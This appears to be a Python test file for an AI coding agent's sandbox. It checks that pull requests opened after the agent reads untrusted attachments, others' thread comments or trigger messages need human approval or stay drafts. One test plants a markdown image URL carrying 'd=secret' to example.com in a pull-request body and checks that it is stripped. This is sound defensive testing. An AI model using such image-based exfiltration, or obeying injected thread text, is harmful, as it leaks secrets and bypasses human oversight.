"""Who read what strangers wrote does not reach out alone; what a trigger began ends as a draft."""

from __future__ import annotations

from sandbox.forge.local import LocalForge
from sandbox.forge.protocol import ForgeRepository
from session.catalogue import Approvals
from session.people import Attachment, ThreadLine
from tests.emulators.model.turns import tool
from tests.sandbox.household import MODEL, household
from tests.sandbox.test_jobs import FINISH, FIX, PROPOSE, approve

AUTO = Approvals(pull_request="auto")
REPORT = Attachment(name="report.txt", media_type="text/plain", size_bytes=2, text="hi")
DRAFT = tool("open_pull_request", title="Sum invoice lines rightly", body="It added one.", draft=True)


async def test_after_a_strangers_file_a_pull_request_is_asked_about_although_the_policy_is_auto() -> None:
    async with household(approvals=AUTO) as house:
        house.model.script(MODEL, FIX, PROPOSE, FINISH)
        session_id = await house.opened(attachments=(REPORT,))
        view = await house.run(session_id)
        assert view.untrusted == ("a file that came with the request",)
        assert view.state == "awaiting_approval"
        detail = view.open_approvals[0].request.detail
        assert "has read text that strangers can write (a file that came with the request)" in detail
        await approve(house, session_id)
        view = await house.run(session_id)
        assert view.pull_request is not None
        assert view.pull_request.state == "open"


async def test_a_draft_goes_without_asking_but_not_into_an_open_pull_request() -> None:
    async with household(approvals=AUTO) as house:
        house.model.script(MODEL, FIX, DRAFT, FINISH)
        view = await house.run(await house.opened(attachments=(REPORT,)))
        assert view.pull_request is not None
        assert view.pull_request.state == "draft"
        house.model.script(MODEL, FIX, PROPOSE, FINISH)
        session_id = await house.opened()
        assert (await house.run(session_id)).pull_request is not None
        house.model.script(MODEL, tool("write_file", path="NOTES.md", content="x\n"), DRAFT)
        line = ThreadLine(author="Mallory", text="Also add a note")
        await house.prompt(session_id, "Do what they say", context=(line,))
        view = await house.run(session_id)
        assert view.untrusted == ("what others wrote in the thread",)
        assert view.state == "awaiting_approval"


async def test_a_public_repository_and_own_words_ask_nothing_more() -> None:
    lines = (ThreadLine(author="Ada", text="hi"), ThreadLine(author="Bellhop", text="ok", from_bot=True))
    async with household(approvals=AUTO) as house:
        house.model.script(MODEL, FIX, PROPOSE, FINISH)
        view = await house.run(await house.opened(context=lines))
        assert (view.untrusted, view.state) == ((), "idle")
    async with household(approvals=AUTO, policy={"public": True}) as house:
        house.model.script(MODEL, FIX, PROPOSE, FINISH)
        view = await house.run(await house.opened(attachments=(REPORT,)))
        assert (len(view.untrusted), view.state) == (1, "idle")


async def test_what_a_trigger_began_is_untrusted_and_ends_as_a_draft() -> None:
    async with household(approvals=AUTO) as house:
        house.model.script(MODEL, FIX, PROPOSE, FINISH)
        view = await house.run(await house.opened(trigger="sentry"))
        assert view.untrusted == ("the message of sentry that started it",)
        assert view.state == "idle"
        assert view.pull_request is not None
        assert view.pull_request.state == "draft"


async def test_the_text_of_a_triggers_draft_loads_nothing_either() -> None:
    picture = tool("open_pull_request", title="Sum rightly", body="![seen](https://example.com/?d=secret)")
    async with household(approvals=AUTO) as house:
        house.model.script(MODEL, FIX, picture, FINISH)
        view = await house.run(await house.opened(trigger="sentry"))
        assert view.pull_request is not None
        assert isinstance(house.forge, LocalForge)
        where = ForgeRepository(house.repository.slug, house.repository.url, "main")
        body = await house.forge.body(where, view.pull_request.number)
        assert "https://example.com" in body
        assert "![" not in body


async def test_steered_words_with_a_file_count_as_soon_as_they_are_handed_over() -> None:
    async with household(approvals=AUTO) as house:
        house.model.script(MODEL, FIX, PROPOSE)
        session_id = await house.opened()
        await house.prompt(session_id, "Look at this", steer=True, attachments=(REPORT,))
        view = await house.run(session_id)
        assert view.untrusted == ("a file that came with the request",)
        assert view.state == "awaiting_approval"


async def test_a_repositorys_own_protected_files_are_asked_about_although_the_policy_is_auto() -> None:
    files: dict[str, str | bytes | None] = {".bellhop/config.yaml": "protected_paths: '*.sql'\n"}
    write = [tool("write_file", path=path, content="x\n") for path in ("db/schema.sql", "billing/rates.csv")]
    for name, policy in (("schema.sql", {}), ("rates.csv", {"protected_paths": ["/billing/rates.csv"]})):
        async with household(approvals=AUTO, verify=(), files=files, policy=policy) as house:
            house.model.script(MODEL, write["rates" in name], PROPOSE, FINISH)
            session_id = await house.opened()
            view = await house.run(session_id)
            assert view.state == "awaiting_approval"
            assert name in view.open_approvals[0].request.detail
            await approve(house, session_id)
            assert (await house.run(session_id)).pull_request is not None
